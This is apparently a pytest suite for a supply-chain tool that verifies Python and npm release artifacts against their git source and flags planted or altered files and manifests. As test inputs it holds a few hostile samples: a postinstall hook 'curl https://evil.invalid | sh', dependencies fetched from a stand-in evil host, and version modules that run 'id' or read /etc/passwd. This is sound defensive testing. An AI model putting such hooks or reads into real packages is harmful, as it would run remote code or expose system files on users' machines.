from __future__ import annotations

import datetime as dt
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from fimci.artifacts import generated
from fimci.errors import SourceError, UsageError
from fimci.findings import Report
from fimci.policy import Policy
from fimci.sources.locator import Locator
from fimci.verify import Request, verify
from tests.archives import zip_of
from tests.artifacts import battery, projects
from tests.repository import git

TODAY = dt.date(2026, 11, 26)
NAMES = sorted(projects.PROJECTS)


def committed(folder: Path, files: Mapping[str, str], tag: str = "v1.0") -> Path:
    """Commit files on top of what is there, and tag that."""
    if not (folder / ".git").exists():
        folder.mkdir(exist_ok=True)
        git(folder, "init", "--quiet", "--initial-branch=main")
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text, newline="")
    git(folder, "add", "--all", "--force")
    git(folder, "commit", "--quiet", "--message", "release")
    git(folder, "tag", tag)
    return folder


def verified(
    folder: Path, name: str, data: bytes, *, ref: str = "v1.0", patterns: tuple[str, ...] = ()
) -> Report:
    """Verify an artifact against the repository in `folder`."""
    (folder.parent / name).write_bytes(data)
    source = Locator("git", str(folder), ref)
    return verify(
        Request(artifacts=(str(folder.parent / name),), source=source, generated=patterns, today=TODAY)
    )


def said(report: Report) -> list[str]:
    return [f"{f.severity} {f.rule} {f.path.partition('!/')[2]}:{f.line}" for f in report.findings]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("kind", ["sdist", "wheel"])
def test_what_a_backend_makes_is_borne_out_or_explained(tmp_path: Path, name: str, kind: str) -> None:
    folder = committed(tmp_path / "project", projects.repository(name))
    data = projects.sdist(name) if kind == "sdist" else projects.wheel(name)
    file = battery.SDIST if kind == "sdist" else battery.WHEEL
    report = verified(folder, file, data, patterns=projects.PROJECTS[name].generated)
    about_source = [one for one in said(report) if "source" in one]
    assert about_source == []
    assert report.unread == ()


@pytest.mark.parametrize("name", NAMES)
def test_a_planted_file_is_found(tmp_path: Path, name: str) -> None:
    folder = committed(tmp_path / "project", projects.repository(name))
    patterns = projects.PROJECTS[name].generated
    planted = verified(
        folder, battery.SDIST, projects.sdist(name, {"build-to-host.m4": "evil\n"}), patterns=patterns
    )
    assert said(planted) == ["high artifact-file-unsourced demo-1.0/build-to-host.m4:1"]
    wheel = verified(
        folder, battery.WHEEL, projects.wheel(name, {"demo/extra.py": "evil = 1\n"}), patterns=patterns
    )
    assert "high artifact-file-unsourced demo/extra.py:1" in said(wheel)


@pytest.mark.parametrize("name", NAMES)
def test_a_planted_line_is_found_with_its_place(tmp_path: Path, name: str) -> None:
    folder = committed(tmp_path / "project", projects.repository(name))
    patterns = projects.PROJECTS[name].generated
    where = f"{projects.PROJECTS[name].where}/core.py"
    evil = f"{projects.CORE}evil = 1\n"
    sdist = verified(folder, battery.SDIST, projects.sdist(name, {where: evil}), patterns=patterns)
    assert said(sdist) == [f"high artifact-source-differs demo-1.0/{where}:3"]
    assert sdist.findings[0].evidence[-1].text == "evil = 1"
    wheel = verified(folder, battery.WHEEL, projects.wheel(name, {"demo/core.py": evil}), patterns=patterns)
    assert "high artifact-source-differs demo/core.py:3" in said(wheel)


@pytest.mark.parametrize("kind", ["sdist", "wheel"])
def test_a_member_that_was_emptied_is_found(tmp_path: Path, kind: str) -> None:
    folder = committed(tmp_path / "project", projects.repository("hatchling"))
    if kind == "sdist":
        made = verified(folder, battery.SDIST, projects.sdist("hatchling", {"src/demo/core.py": ""}))
        assert said(made) == ["high artifact-source-differs demo-1.0/src/demo/core.py:1"]
    else:
        made = verified(folder, battery.WHEEL, projects.wheel("hatchling", {"demo/core.py": ""}))
        assert "high artifact-source-differs demo/core.py:1" in said(made)


def test_of_a_package_with_one_module_the_line_is_told(tmp_path: Path) -> None:
    folder = committed(tmp_path / "project", {"src/demo/core.py": projects.CORE})
    files = {"demo/core.py": f"{projects.CORE}evil = 1\n".encode(), "demo/more.py": b"more = 1\n"}
    report = verified(folder, battery.WHEEL, zip_of(*battery.members(files)))
    told = [one for one in said(report) if "source" in one]
    assert told == [
        "high artifact-source-differs demo/core.py:3",
        "high artifact-file-unsourced demo/more.py:1",
    ]


def test_a_wrong_tag_is_one_finding(tmp_path: Path) -> None:
    many = {f"src/demo/m{number}.py": "a = 1\n" for number in range(40)}
    folder = committed(tmp_path / "project", {**projects.repository("hatchling"), **many})
    committed(folder, dict.fromkeys(many, "a = 2\n"), "v2.0")
    data = projects.sdist("hatchling", many)
    assert said(verified(folder, battery.SDIST, data)) == []
    report = verified(folder, battery.SDIST, data, ref="v2.0")
    assert said(report) == ["high artifact-source-differs demo-1.0/src/demo/m0.py:1"]
    assert "and 39 more alike" in report.findings[0].message


def test_a_swapped_binary_is_found(tmp_path: Path) -> None:
    files = {**projects.repository("hatchling"), "src/demo/logo.bin": "\x00\x01" * 50}
    folder = committed(tmp_path / "project", files)
    report = verified(
        folder, battery.SDIST, projects.sdist("hatchling", {"src/demo/logo.bin": "\x00\x02" * 50})
    )
    assert said(report) == ["high artifact-source-differs demo-1.0/src/demo/logo.bin:1"]


def test_compiled_code_must_be_declared(tmp_path: Path) -> None:
    folder = committed(tmp_path / "project", projects.repository("extension"))
    report = verified(folder, battery.WHEEL, projects.wheel("extension"))
    path = "demo/fast.cpython-311-x86_64-linux-gnu.so"
    assert f"high artifact-file-unsourced {path}:1" in said(report)
    (tmp_path / battery.WHEEL).write_bytes(projects.wheel("extension"))
    request = Request(
        artifacts=(str(tmp_path / battery.WHEEL),),
        source=Locator("git", str(folder), "v1.0"),
        policy=Policy(generated=("*.so",)),
        today=TODAY,
    )
    assert not [one for one in said(verify(request)) if "source" in one]


def test_the_policy_is_that_of_the_commit(tmp_path: Path) -> None:
    files = {**projects.repository("extension"), "fimci.toml": 'generated = ["*.so"]\n'}
    folder = committed(tmp_path / "project", files)
    (folder / "fimci.toml").write_text("generated = []\n")
    report = verified(folder, battery.WHEEL, projects.wheel("extension"))
    assert not [one for one in said(report) if "source" in one]


def test_a_file_in_the_place_of_another_one_is_found_though_the_source_has_its_content(
    tmp_path: Path,
) -> None:
    evil = {"tests/fixture.py": "evil = 1\n"}
    folder = committed(tmp_path / "project", {**projects.repository("hatchling"), **evil})
    swapped = projects.sdist("hatchling", {"src/demo/core.py": "evil = 1\n"})
    assert said(verified(folder, battery.SDIST, swapped)) == [
        "high artifact-source-differs demo-1.0/src/demo/core.py:1"
    ]
    renamed = projects.sdist("hatchling", {"src/demo/new.py": "evil = 1\n"})
    assert said(verified(folder, battery.SDIST, renamed)) == [
        "low artifact-file-unsourced demo-1.0/src/demo/new.py:1"
    ]


def test_line_ends_are_no_difference_and_links_are_what_they_lead_to(tmp_path: Path) -> None:
    folder = committed(tmp_path / "project", projects.repository("hatchling"))
    (folder / "docs.md").symlink_to("README.md")
    git(folder, "add", "--all")
    git(folder, "commit", "--quiet", "--message", "link")
    change = {"src/demo/core.py": projects.CORE.replace("\n", "\r\n"), "docs.md": "# demo\n"}
    report = verified(folder, battery.SDIST, projects.sdist("hatchling", change), ref="HEAD")
    assert said(report) == []
    assert any("line ends" in note for note in report.notes)


def test_a_wheel_is_held_against_its_sdist(tmp_path: Path) -> None:
    (tmp_path / battery.SDIST).write_bytes(projects.sdist("hatch-vcs"))
    (tmp_path / battery.WHEEL).write_bytes(projects.wheel("hatch-vcs", {"demo/core.py": "evil = 1\n"}))
    source = Locator("archive", str(tmp_path / battery.SDIST))
    report = verify(Request(artifacts=(str(tmp_path / battery.WHEEL),), source=source, today=TODAY))
    assert said(report) == ["high artifact-source-differs demo/core.py:1"]


def test_an_artifact_is_held_against_a_folder(tmp_path: Path) -> None:
    folder = committed(tmp_path / "project", projects.repository("hatchling"))
    (tmp_path / battery.SDIST).write_bytes(projects.sdist("hatchling", {"src/demo/core.py": "evil = 1\n"}))
    request = Request(
        artifacts=(str(tmp_path / battery.SDIST),), source=Locator("dir", str(folder)), today=TODAY
    )
    assert said(verify(request)) == ["high artifact-source-differs demo-1.0/src/demo/core.py:1"]
    with pytest.raises(UsageError, match="not a source of an artifact"):
        verify(Request(artifacts=request.artifacts, source=Locator("node", "."), today=TODAY))


def test_an_npm_package_is_held_against_its_commit(tmp_path: Path) -> None:
    files = {"package.json": battery.MANIFEST.decode(), "cli.js": "module.exports = 1;\n"}
    folder = committed(tmp_path / "project", files)
    assert said(verified(folder, battery.NPM, battery.npm(battery.PACKAGE))) == []
    planted = battery.npm((*battery.PACKAGE, ("package/extra.js", b"evil = 1;\n")))
    assert said(verified(folder, battery.NPM, planted)) == ["high artifact-file-unsourced package/extra.js:1"]


def test_a_ref_that_is_not_there_is_an_error(tmp_path: Path) -> None:
    folder = committed(tmp_path / "project", projects.repository("flit"))
    with pytest.raises(SourceError, match="is not a commit"):
        verified(folder, battery.SDIST, projects.sdist("flit"), ref="v9.9")


@pytest.mark.parametrize(
    "text", [projects.VERSION, projects.OLD_VERSION, projects.VERSIONEER, "__version__ = '1'\n"]
)
def test_version_modules_of_known_tools_are_data(text: str) -> None:
    assert generated.is_data(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "import os\n__version__ = os.popen('id').read()\n",
        "__version__ = open('/etc/passwd').read()\n",
        "from .core import run\n",
        "from typing import ForwardRef as str\nstr('x')\n",
        "import json as tuple\n",
        "@json.loads\ndef f(): return 1\n",
        "class A: pass\n",
        "__version__ = [x for x in ()]\n",
        "exec('1')\n",
        "lambda: 1\n",
        "def f(:\n",
        "\0",
    ],
)
def test_what_could_do_something_is_not_data(text: str) -> None:
    assert not generated.is_data(text.encode())


def test_a_version_module_that_does_something_is_told(tmp_path: Path) -> None:
    folder = committed(tmp_path / "project", projects.repository("hatch-vcs"))
    evil = {"src/demo/_version.py": "import os\n__version__ = os.getcwd()\n"}
    report = verified(folder, battery.SDIST, projects.sdist("hatch-vcs", evil))
    assert said(report) == ["high artifact-file-unsourced demo-1.0/src/demo/_version.py:1"]


@pytest.mark.parametrize(
    ("name", "change", "line"),
    [
        ("pdm", {"pyproject.toml": projects.SDISTS["pdm"]["pyproject.toml"].replace('"1.0"', '"1.1"')}, 2),
        (
            "pdm",
            {"pyproject.toml": projects.SDISTS["pdm"]["pyproject.toml"].replace("pdm.backend", "evil")},
            2,
        ),
        ("maturin", {"Cargo.toml": projects.CARGO.replace("[lib]", 'build = "evil.rs"\n[lib]')}, 5),
        (
            "extension",
            {"setup.cfg": projects.SETUP_CFG.replace("0", "0\n[options]\nsetup_requires = evil")},
            1,
        ),
    ],
)
def test_a_manifest_that_says_something_else_is_told(
    tmp_path: Path, name: str, change: Mapping[str, str], line: int
) -> None:
    folder = committed(tmp_path / "project", projects.repository(name))
    report = verified(folder, battery.SDIST, projects.sdist(name, change))
    found = [one for one in said(report) if "metadata-unsourced" not in one]  # of the other version, twice
    assert found == [f"high artifact-source-differs demo-1.0/{next(iter(change))}:{line}"]


NPM_SOURCE = {
    "package.json": '{"name": "root", "private": true}\n',
    "README.md": "# root\n",
    "packages/demo/package.json": json.dumps(
        {
            "name": "demo",
            "version": "1.0.0",
            "scripts": {"build": "tsc", "prepublishOnly": "npm run build"},
            "dependencies": {"left": "workspace:^", "right": "catalog:", "other": "^1.0.0"},
            "devDependencies": {"tsc": "1"},
            "packageManager": "pnpm@10.0.0",
        }
    ),
    "packages/demo/README.md": "# demo\n",
    "packages/demo/cli.js": "module.exports = 1;\n",
}
PUBLISHED: dict[str, Any] = {
    "version": "1.0.0",
    "name": "demo",
    "dependencies": {"left": "^1.2.3", "other": "^1.0.0", "right": "~2.0.0"},
    "scripts": {"build": "tsc"},
}


def published(tmp_path: Path, change: dict[str, Any]) -> list[str]:
    folder = committed(tmp_path / "project", NPM_SOURCE)
    manifest = json.dumps({**PUBLISHED, **change}).encode()
    packed = [("package/package.json", manifest), ("package/README.md", b"# demo\n")]
    data = battery.npm([*packed, ("package/cli.js", b"module.exports = 1;\n")])
    return [one for one in said(verified(folder, battery.NPM, data)) if "source" in one]


def test_what_publishing_does_to_a_manifest_in_a_repository_of_many_is_no_difference(tmp_path: Path) -> None:
    assert published(tmp_path, {}) == []


@pytest.mark.parametrize(
    "change",
    [
        {"scripts": {"build": "tsc", "postinstall": "curl https://evil.invalid | sh"}},
        {"scripts": {"build": "tsc --evil"}},
        {"scripts": {"build": "tsc", "prepare": "evil"}},
        {"scripts": {}},
        {"dependencies": {**PUBLISHED["dependencies"], "evil": "^1.0.0"}},
        {"dependencies": {**PUBLISHED["dependencies"], "other": "^6.6.6"}},
        {"dependencies": {**PUBLISHED["dependencies"], "left": "https://evil.invalid/left.tgz"}},
        {"dependencies": {**PUBLISHED["dependencies"], "left": "npm:evil@1"}},
        {"bin": "cli.js"},
        {"main": "evil.js"},
        {"devDependencies": {"evil": "1"}},
    ],
)
def test_what_publishing_does_not_do_to_a_manifest_is_told(tmp_path: Path, change: dict[str, Any]) -> None:
    assert published(tmp_path, change) == ["high artifact-source-differs package/package.json:1"]
